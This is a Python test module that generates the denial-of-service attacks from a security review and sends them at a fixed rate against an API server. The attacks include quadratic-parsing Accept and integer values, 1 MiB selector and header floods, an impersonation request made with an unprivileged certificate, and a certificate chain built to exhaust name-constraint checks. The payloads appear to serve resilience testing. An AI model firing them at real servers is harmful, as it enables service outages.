"""The published attacks of the security review, sent at a fixed rate from a process of its own.

Each attack is the raw bytes of one request without a credential, or a hostile certificate chain
shown in a handshake. The sizes are the published ones.
"""

import contextlib
import datetime
import multiprocessing
import os
import socket
import ssl
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from multiprocessing.connection import Connection
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

START_SECONDS = 30.0
EXCHANGE_SECONDS = 20.0
PLAIN = b"GET /api/v1/pods HTTP/1.1\r\nHost: a\r\n\r\n"
KIB, MIB = 1024, 1024 * 1024


@dataclass(frozen=True, slots=True)
class Attack:
    """One request, and the certificate chain with its key in PEM that its client shows."""

    name: str
    request: bytes = PLAIN
    client_pem: bytes = b""


def accept_clauses(size: int = 100 * KIB) -> Attack:
    """F1: an Accept header whose clauses are in the worst order for an insertion sort."""
    count = size // 8
    accept = b"*/*," * count + b"a/b," * count
    return Attack("F1 accept", with_header(b"Accept", accept))


def accept_quality(size: int = 16 * KIB) -> Attack:
    """F2: a quality that a backtracking expression reads in quadratic time."""
    return Attack("F2 q", with_header(b"Accept", b"a/b;q=" + b"1" * size + b"x"))


def integer_parameter(name: str, size: int = 24 * KIB) -> Attack:
    """F2: an integer that a backtracking expression reads in quadratic time."""
    query = name.encode() + b"=" + b"0" * size + b"x"
    return Attack(f"F2 {name}", with_target(b"/api/v1/pods?" + query))


def label_selector(size: int = MIB - 512) -> Attack:
    """F5: as many label requirements as a head holds."""
    return Attack(
        "F5 labelSelector", with_target(b"/api/v1/pods?labelSelector=" + b"a," * (size // 2))
    )


def impersonating_label_selector(client_pem: bytes, size: int = 150_000) -> Attack:
    """F4, F5: the same with the certificate of a caller that has no permission."""
    target = b"/api/v1/namespaces/n1/pods?labelSelector=" + b"a," * (size // 2)
    request = with_target(target).replace(b"\r\n\r\n", b"\r\nImpersonate-User: emil\r\n\r\n")
    return Attack("F4 impersonation", request, client_pem)


def field_selector(size: int = MIB - 512) -> Attack:
    """F5: as many field requirements as a head holds."""
    return Attack(
        "F5 fieldSelector", with_target(b"/api/v1/pods?fieldSelector=" + b"a=b," * (size // 4))
    )


def timeout_parts(size: int = MIB - 512) -> Attack:
    """F5: as many parts of a duration as a head holds."""
    return Attack("F5 timeout", with_target(b"/api/v1/pods?timeout=" + b"1ns" * (size // 3)))


def escaped_timeout(size: int = MIB - 512) -> Attack:
    """F10: a timeout of bytes that each sink has to escape."""
    return Attack("F10 timeout", with_target(b"/api/v1/pods?timeout=" + b"%80" * (size // 3)))


def websocket_protocols(size: int = MIB - 512) -> Attack:
    """F5: as many WebSocket subprotocols as a head holds."""
    upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: " + b"," * size
    return Attack(
        "F5 protocols", b"GET /api/v1/pods HTTP/1.1\r\nHost: a\r\n" + upgrade + b"\r\n\r\n"
    )


def exec_query(size: int = MIB - 512) -> Attack:
    """Fill a head with the query of an exec: the longest request line that is read."""
    target = b"/api/v1/namespaces/n/pods/p/exec?command=" + b"%41" * (size // 3)
    return Attack("exec query", with_target(target))


def many_header_lines(size: int = MIB - 512) -> Attack:
    """Fill a head with as many header lines as are read: the most costly head that is."""
    count = 1190
    line = b"X-Line-000: " + b"a" * (size // count - 14) + b"\r\n"
    head = b"GET /api/v1/pods HTTP/1.1\r\nHost: a\r\n" + line * count + b"\r\n"
    return Attack("header lines", head)


def hostile_chain() -> Attack:
    """F9: 8 CAs with 250 name constraints each before a certificate with 3 900 names, 60 KB."""
    issuer_key, issuer_name = ec.generate_private_key(ec.SECP256R1()), _name("ca-0")
    chain: list[x509.Certificate] = []
    for number in range(8):
        key = ec.generate_private_key(ec.SECP256R1())
        names = [x509.DNSName(f"{one}.x") for one in range(250)]
        draft = _draft(_name(f"ca-{number + 1}"), issuer_name, key)
        draft = draft.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        draft = draft.add_extension(x509.NameConstraints(names, None), critical=True)
        chain.insert(0, draft.sign(issuer_key, hashes.SHA256()))
        issuer_key, issuer_name = key, _name(f"ca-{number + 1}")
    key = ec.generate_private_key(ec.SECP256R1())
    alternative = x509.SubjectAlternativeName(
        [x509.DNSName(f"{one % 250}.x") for one in range(3900)]
    )
    leaf = _draft(_name("mallory"), issuer_name, key).add_extension(alternative, critical=False)
    chain.insert(0, leaf.sign(issuer_key, hashes.SHA256()))
    pem = b"".join(one.public_bytes(serialization.Encoding.PEM) for one in chain)
    return Attack("F9 chain", client_pem=pem + _key_pem(key))


def costly_attacks() -> tuple[Attack, ...]:
    """Return F1, F2, F5 and F9 at published sizes, and the worst case of `make complexity`."""
    return (
        accept_clauses(),
        accept_quality(),
        integer_parameter("limit"),
        integer_parameter("timeoutSeconds"),
        label_selector(),
        field_selector(),
        timeout_parts(),
        websocket_protocols(),
        hostile_chain(),
        many_header_lines(),
    )


def all_attacks(client_pem: bytes) -> tuple[Attack, ...]:
    """Return the same with F4, F10 and the longest query that is parsed.

    `client_pem` is the certificate and the key of a caller that has no permission.
    """
    others = impersonating_label_selector(client_pem), escaped_timeout(), exec_query()
    return *costly_attacks(), *others


def with_header(name: bytes, value: bytes) -> bytes:
    """Return a request with this header line."""
    return b"GET /api/v1/pods HTTP/1.1\r\nHost: a\r\n" + name + b": " + value + b"\r\n\r\n"


def with_target(target: bytes) -> bytes:
    """Return a request for this target."""
    return b"GET " + target + b" HTTP/1.1\r\nHost: a\r\n\r\n"


@contextmanager
def attacking(
    address: tuple[str, int], attacks: tuple[Attack, ...], *, per_second: float
) -> Iterator[Counter[str]]:
    """Send each attack so often for the time of the context.

    The counter holds the first line of each response by attack, or the kind of failure, once the
    context is left.
    """
    outcomes: Counter[str] = Counter()
    ours, theirs = multiprocessing.Pipe()
    process = multiprocessing.get_context("spawn").Process(
        target=_attack, args=(theirs, address, attacks, per_second)
    )
    process.start()
    try:
        assert ours.poll(START_SECONDS), "the attack did not start"
        ours.recv()
        yield outcomes
        ours.send("stop")
        assert ours.poll(START_SECONDS + EXCHANGE_SECONDS), "the attack did not stop"
        outcomes.update(ours.recv())
    finally:
        process.terminate()
        process.join()
        process.close()
        ours.close()
        theirs.close()


def _attack(
    connection: Connection, address: tuple[str, int], attacks: tuple[Attack, ...], per_second: float
) -> None:
    os.nice(19)  # an attacker has a machine of its own: it must not take CPU from what is measured
    stop = threading.Event()
    outcomes: Counter[str] = Counter()
    threads = [
        threading.Thread(target=_repeat, args=(address, one, per_second, stop, outcomes))
        for one in attacks
    ]
    for thread in threads:
        thread.start()
    connection.send("started")
    connection.recv()
    stop.set()
    for thread in threads:
        thread.join()
    connection.send(outcomes)


def _repeat(
    address: tuple[str, int],
    attack: Attack,
    per_second: float,
    stop: threading.Event,
    outcomes: Counter[str],
) -> None:
    context = attacker_context(attack)
    due = time.monotonic()
    while not stop.is_set():
        outcomes[f"{attack.name}: {_outcome(address, context, attack.request)}"] += 1
        due += 1 / per_second
        # A late one is not made up for: the rate is a bound.
        due = max(due, time.monotonic() - 1 / per_second)
        stop.wait(max(0.0, due - time.monotonic()))


def _outcome(address: tuple[str, int], context: ssl.SSLContext, request: bytes) -> str:
    try:
        with (
            socket.create_connection(address, timeout=EXCHANGE_SECONDS) as plain,
            context.wrap_socket(plain) as secure,
        ):
            with contextlib.suppress(BrokenPipeError, ConnectionResetError, ssl.SSLEOFError):
                secure.sendall(request)
            return secure.recv(4096).partition(b"\r\n")[0].decode("latin-1") or "closed"
    except OSError as error:
        return type(error).__name__


def attacker_context(attack: Attack) -> ssl.SSLContext:
    """Return the context of a client that shows the attack's certificates and believes anything."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if attack.client_pem:
        with tempfile.TemporaryDirectory() as directory:
            file = Path(directory, "client.pem")
            file.write_bytes(attack.client_pem)
            context.load_cert_chain(file)
    return context


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def _draft(
    subject: x509.Name, issuer: x509.Name, key: ec.EllipticCurvePrivateKey
) -> x509.CertificateBuilder:
    now = datetime.datetime.now(datetime.UTC)
    return x509.CertificateBuilder(
        issuer_name=issuer,
        subject_name=subject,
        public_key=key.public_key(),
        serial_number=x509.random_serial_number(),
        not_valid_before=now - datetime.timedelta(hours=1),
        not_valid_after=now + datetime.timedelta(days=1),
    )


def _key_pem(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
